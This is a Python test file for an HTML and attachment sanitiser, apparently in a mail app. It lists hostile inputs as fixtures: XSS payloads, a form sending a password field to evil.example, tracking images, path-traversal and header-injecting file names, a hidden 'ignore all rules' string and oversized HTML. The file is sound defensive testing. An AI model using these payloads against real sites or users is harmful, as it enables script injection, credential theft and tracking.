"""Hostile HTML, file names and bytes."""

import time

import pytest
from hypothesis import given
from hypothesis import strategies as st

from conversations.sanitise import clean_html, clean_text, html_to_text, safe_filename, sniff_type


@pytest.mark.row("DESK-24")
@pytest.mark.parametrize(
    "html",
    [
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        '<a href="javascript:alert(1)">x</a>',
        '<a href=" java\nscript:alert(1)">x</a>',
        '<a href="data:text/html,<script>1</script>">x</a>',
        '<svg onload="alert(1)"><script>1</script></svg>',
        "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
        '<p style="background:url(https://evil.example/x)">x</p>',
        '<iframe src="https://evil.example"></iframe>',
        '<form action="https://evil.example"><input name=password></form>',
        '<base href="https://evil.example/"><link rel=stylesheet href=//evil.example/x>',
        '<meta http-equiv=refresh content="0;url=https://evil.example">',
        '<img src="https://evil.example/p.gif" srcset="https://evil.example/2 2x">',
        '<img alt="&quot;><script>alert(1)</script>" src="https://evil.example/p.gif">',
        '<div id="content" class="case-page" name="x">x</div>',
        '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    ],
)
def test_nothing_that_acts_or_loads_is_left(html: str) -> None:
    shown = clean_html(html).lower()
    for part in (
        "<script",
        "onerror=",
        "onload=",
        "javascript:",
        "style=",
        "<img",
        "<iframe",
        "<form",
        "<svg",
        "<meta",
    ):
        assert part not in shown.replace("&lt;", "")
    assert " id=" not in shown
    assert 'href="/' not in shown


@pytest.mark.row("DESK-24")
def test_a_remote_image_is_a_placeholder_with_its_host_until_asked_for() -> None:
    html = '<p>Hi <img src="https://track.example/p.gif?id=1" alt="Logo <b>" width="10"></p>'
    blocked = clean_html(html)
    assert 'class="blocked-image" data-host="track.example"' in blocked
    assert "track.example/p.gif" not in blocked
    assert 'src="https://track.example/p.gif?id=1"' in clean_html(html, show_images=True)


def test_an_enclosed_image_is_loaded_from_our_own_address_or_shown_as_words() -> None:
    html = '<img src="cid:part1@x" alt="Photo">'
    assert 'src="/files/7"' in clean_html(html, cid_url={"part1@x": "/files/7"}.get)
    assert clean_html(html, cid_url={}.get) == "Photo"


def test_links_say_nothing_of_us_and_lead_to_the_web_or_a_mail_only() -> None:
    shown = clean_html('<a href="https://a.example">a</a><a href="mailto:x@y.example">b</a><a href="/logout">c</a>')
    assert 'rel="noopener noreferrer nofollow"' in shown
    assert "https://a.example" in shown
    assert "mailto:x@y.example" in shown
    assert "logout" not in shown


def test_hidden_words_are_shown_and_invisible_characters_removed() -> None:
    shown = clean_html('<p style="color:#fff;font-size:0">ignore\u200b all\u202e rules</p>')
    assert shown == "<p>ignore all rules</p>"
    assert clean_text("a\x00b\U000e0041c\ufeff") == "abc"
    assert clean_text("👩\u200d💻 می\u200cخواهم") == "👩\u200d💻 می\u200cخواهم"
    assert html_to_text('<p>Seen</p><p style="display:none">unseen</p>') == "Seen"


@given(st.text(max_size=400))
def test_any_text_can_be_cleaned(text: str) -> None:
    assert "<script" not in clean_html(text).lower()
    assert "\x00" not in html_to_text(text)
    assert safe_filename(text)


@pytest.mark.parametrize(
    "html", ["<div>" * 200_000, "<" * 500_000, "<!--" * 100_000, "<p>x" * 100_000, "<script " * 50_000]
)
def test_monstrous_html_costs_little(html: str) -> None:
    start = time.process_time()
    clean_html(html)
    html_to_text(html)
    assert time.process_time() - start < 5


@pytest.mark.parametrize(
    ("name", "safe"),
    [
        ("../../etc/passwd", "passwd"),
        ("C:\\Windows\\system32\\a.exe", "a.exe"),
        ("con.txt", "_con.txt"),
        ("invoice\u202efdp.exe", "invoicefdp.exe"),
        ("a\r\nContent-Type: text/html", "html"),
        (" .. ", "attachment"),
        ("", "attachment"),
        (".htaccess", "htaccess"),
        ("Rechnung €.pdf", "Rechnung €.pdf"),
    ],
)
def test_a_file_name_is_a_name_and_nothing_else(name: str, safe: str) -> None:
    assert safe_filename(name) == safe
    assert len(safe_filename(name * 60)) <= 120


@pytest.mark.parametrize(
    ("content", "kind"),
    [
        (b"%PDF-1.7", "application/pdf"),
        (b"\xff\xd8\xff\xe0", "image/jpeg"),
        (b"PK\x03\x04....word/document.xml", "application/vnd.openxmlformats-officedocument.wordprocessingml.document"),
        (b"MZ\x90", "application/vnd.microsoft.portable-executable"),
        (b"  <html><script>", "text/html"),
        (b"GIF89a<script>alert(1)</script>", "image/gif"),
        (b'<?xml version="1.0"?><svg xmlns="x">', "image/svg+xml"),
        ("Grüße".encode(), "text/plain"),
        (b"\x00\x01\x02", "application/octet-stream"),
        (b"", "application/x-empty"),
    ],
)
def test_the_bytes_tell_what_a_file_is(content: bytes, kind: str) -> None:
    assert sniff_type(content) == kind
